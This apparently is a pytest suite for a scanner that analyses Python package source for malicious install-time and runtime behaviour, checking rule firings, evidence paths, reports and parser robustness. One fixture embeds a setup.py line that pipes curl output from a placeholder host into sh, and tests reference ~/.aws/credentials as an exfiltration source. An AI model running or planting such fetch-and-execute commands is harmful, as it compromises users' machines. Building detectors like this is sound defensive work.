import ast
import random

import pytest

from causeway.operators import catalogue, reach, search, syntax, walker
from causeway.plans import samples, scan
from causeway.plans.scan import Options
from causeway.runtime import stored


@pytest.fixture(scope="module")
def graphs(spark):
    hostile = {"hostile": {"setup.py": "import os\ndef f(:\n  x = \nos.system('curl http://c.invalid | sh')\n"}, "empty": {"pkg/__init__.py": ""}}
    return scan.graphs_of(spark, samples.packages() | hostile)


@pytest.fixture(scope="module")
def ready(graphs):
    return scan.Prepared(graphs)


@pytest.fixture(scope="module")
def found(ready):
    return stored(scan.evaluate(ready), "found")


@pytest.fixture(scope="module")
def findings(found):
    return [r.asDict(recursive=True) for r in found.collect()]


def test_rules_fire_on_their_pairs_only(findings):
    fired = {(f["dist_id"], f["rule"]) for f in findings}
    wrong = [(rule, name, want) for rule, pairs in samples.PAIRS.items() for name, (_, want) in pairs.items() if ((name, rule) in fired) != want]
    assert not wrong


def test_evidence(findings):
    for f in findings:
        kinds = [s["kind"] for s in f["steps"]]
        assert kinds[0] == "source" and kinds[-1] == "sink"
        assert all(s["path"] and s["line"] >= 1 for s in f["steps"])
    f = next(f for f in findings if f["dist_id"] == "note_sync" and f["rule"] == "EXF-002")
    assert (f["phase"], f["confidence"], f["score"]) == ("install", "resolved", 1.0)
    assert f["source_pattern"] == "~/.aws" and f["steps"][0]["symbol"] == "~/.aws/credentials"
    g = next(f for f in findings if f["dist_id"] == "leaf_counter" and f["rule"] == "EXF-001")
    assert (g["phase"], g["confidence"], g["score"]) == ("runtime", "ambiguous", 0.3)
    assert any(f["dist_id"] == "hostile" and f["rule"] == "DRP-003" for f in findings)
    via = [f for f in findings if f["rule"] == "DRP-002"]
    assert via and all("joint" in [s["kind"] for s in f["steps"]] for f in via)


def test_reports(graphs, found, spark):
    skipped = spark.createDataFrame([("wheel", "not_an_sdist", "x.whl")], "dist_id string, reason string, detail string")
    rows = {r["dist_id"]: r for r in scan.reports(graphs, found, skipped=skipped).collect()}
    assert rows["note_sync"]["verdict"] == "malicious" and rows["note_sync"]["risk"] == 1.0
    assert (rows["empty"]["verdict"], rows["empty"]["risk"], rows["empty"]["findings"]) == ("clean", 0.0, [])
    assert rows["wheel"]["skipped"]["reason"] == "not_an_sdist" and rows["wheel"]["risk"] == 0.0
    assert rows["version_ping"]["verdict"] == "suspicious"  # control paths alone stay below malicious
    assert rows["hostile"]["stats"]["parse_errors"] >= 1


def test_modes(ready):
    by_file = {(r["dist_id"], r["rule"]) for r in scan.evaluate(ready, Options("file_cooccurrence")).collect()}
    assert ("kite_shop", "EXF-001") in by_file
    flat = {(r["dist_id"], r["rule"]): r["score"] for r in scan.evaluate(ready, Options("reachability_unweighted")).collect()}
    assert flat["leaf_counter", "EXF-001"] == 0.6
    sure = scan.evaluate(ready, Options(min_confidence="resolved")).where("confidence <> 'resolved'")
    assert sure.isEmpty()


def test_time_limit_and_errors_cost_one_row(monkeypatch):
    slow = scan._graph_row("slow", [{"path": "m.py", "text": "x = 1\n" * 300_000}], [], None, [], limit=0.01)
    assert slow["error"].startswith("TimeoutError")
    monkeypatch.setattr(scan.Package, "build", lambda self: {}["missing"])
    assert scan._graph_row("odd", [{"path": "m.py", "text": ""}], [], None, [])["error"].startswith("KeyError")


def test_searches_against_those_of_tables(spark):
    """The searches within a distribution and those over tables give the same paths."""
    r = random.Random(5)
    edges = sorted({(r.randrange(30), r.randrange(30)) for _ in range(70)})
    rows = [(a, b, k) for k, (a, b) in enumerate(edges)]
    starts, ends = list(range(0, 30, 4)), set(range(3, 30, 5))
    df = spark.createDataFrame(rows, "src int, dst int, edge int")
    one = lambda c, values: spark.createDataFrame([(v,) for v in values], f"{c} int")
    searches = one("node", starts).selectExpr("node as search", "node")
    want = {(x["search"], x["node"]): (x["nodes"], x["edges"]) for x in reach.data_paths(df, searches, one("node", ends)).collect()}
    assert {(s, e): p for s, e, p in search.data_paths(rows, starts, ends)} == want
    via = [(r.randrange(30), r.randrange(30)) for _ in range(6)]
    joined = {x["node"]: (x["search"], x["nodes"], x["edges"]) for x in reach.paths_via(df, searches, spark.createDataFrame(via, "stop int, go int"), one("node", ends)).collect()}
    got = {e: (s, n, [x for x in es if x >= 0]) for s, e, (n, es) in search.paths_via(rows, starts, via, ends)}
    assert got == joined and all(es.count(-1) == 1 for _, _, (_, es) in search.paths_via(rows, starts, via, ends))
    roots = [(2, 1), (7, 2), (9, 1), (7, 0)]
    phases = {x["node"]: x["phase"] for x in reach.strongest_phase(df.select("src", "dst"), spark.createDataFrame(roots, "node int, phase int")).collect()}
    assert search.phases(edges, roots) == phases


def test_walks_that_are_cut(monkeypatch):
    back = search.adjacent([(k, k + 1, k) for k in range(50)])
    kinds = {k: "literal" if k == 50 else "use" for k in range(51)}
    assert search.is_constant(back, kinds, 0)
    monkeypatch.setattr(search, "CONSTANT_NODES", 20)
    assert not search.is_constant(back, kinds, 0)
    assert search.walked(back, 0, 5) == ([0, 1, 2, 3, 4], False) and search.walked(back, 48) == ([48, 49, 50], True)


def test_catalogue():
    ids = [r[0] for r in catalogue.RULES]
    assert len(set(ids)) == 15
    kinds = set(catalogue.SOURCES) | set(catalogue.SINKS)
    for r in catalogue.RULES:
        assert set(r[2]) | set(r[3]) <= kinds
        assert (r[4] == "control") == (r[2] == ["phase_root"])
    assert (len(catalogue.source_patterns()), len(catalogue.sink_patterns())) == (53, 54)


def test_walker_names():
    p = walker.Package([("src/pkg/__init__.py", "from .m import f as g\nfrom . import m\n"), ("src/pkg/m.py", "import os.path\nimport numpy as np\nx = __import__('json')\nclass A:\n    def f(self):\n        return (lambda: 1)()\ndef f(): pass\n")], ["pkg"]).build()
    assert {s.qualified for s in p.symbols} >= {"pkg", "pkg.m", "pkg.m.A", "pkg.m.A.f", "pkg.m.f", "pkg.m.A.f.<lambda#1>"}
    assert p.imports[0] == {"g": "pkg.m.f", "m": "pkg.m"}
    assert p.imports[1] == {"os": "os", "np": "numpy", "x": "json"}
    assert p.canonical(1, "np.load") == "numpy.load"


def test_fan_out_hub():
    classes = "".join(f"class C{k}:\n    def go(self, v):\n        return v\n" for k in range(10))
    p = walker.Package([("m.py", classes + "def f(x, y):\n    return x.go(y)\n")], ["m"]).build()
    hubs = [n for n in p.nodes if n[2].startswith("<fan-out")]
    assert len(hubs) == 2  # receiver and first argument
    few = walker.Package([("m.py", classes.split("class C8")[0] + "def f(x, y):\n    return x.go(y)\n")], ["m"]).build()
    assert not [n for n in few.nodes if n[2].startswith("<fan-out")]


@pytest.mark.parametrize("junk", [["print 'x'"] * 200, ["x = = 1"] * 80 + ["def f(:", "  x = "] * 40, ["else:", "    print 'a'"] * 100, ["f(", "'''open"] * 70, ["    " * (k % 5) + "a b" for k in range(150)], ["try:", "    print 1"] * 70])
def test_many_broken_lines_cost_themselves_only(junk):
    kept = ["import os", "def g(v):", "    if v:", "        print 'no'", "        os.system(v)", "    else:", "        os.remove(v)"]
    for text in ("\n".join([*junk, *kept]), "\n".join([*kept, *junk, "os.popen('x')"]), "\n".join([*kept[:2], *("    " + x for x in junk), *kept[2:]])):
        calls = {ast.unparse(n.func) for n in ast.walk(syntax.parse(text)[0]) if isinstance(n, ast.Call)}
        assert {"os.system", "os.remove"} <= calls
        assert "os.popen" in calls or "os.popen" not in text
    assert syntax.parse(text)[2] >= 60


def test_nesting_costs_its_own_statement():
    text = "import os\nx = " + "(" * 5000 + ")" * 5000 + "\nos.system('a')\n" + "y = " + "-" * 100000 + "1\nos.remove('b')\n"
    assert {"os.system", "os.remove"} <= {ast.unparse(n.func) for n in ast.walk(syntax.parse(text)[0]) if isinstance(n, ast.Call)}
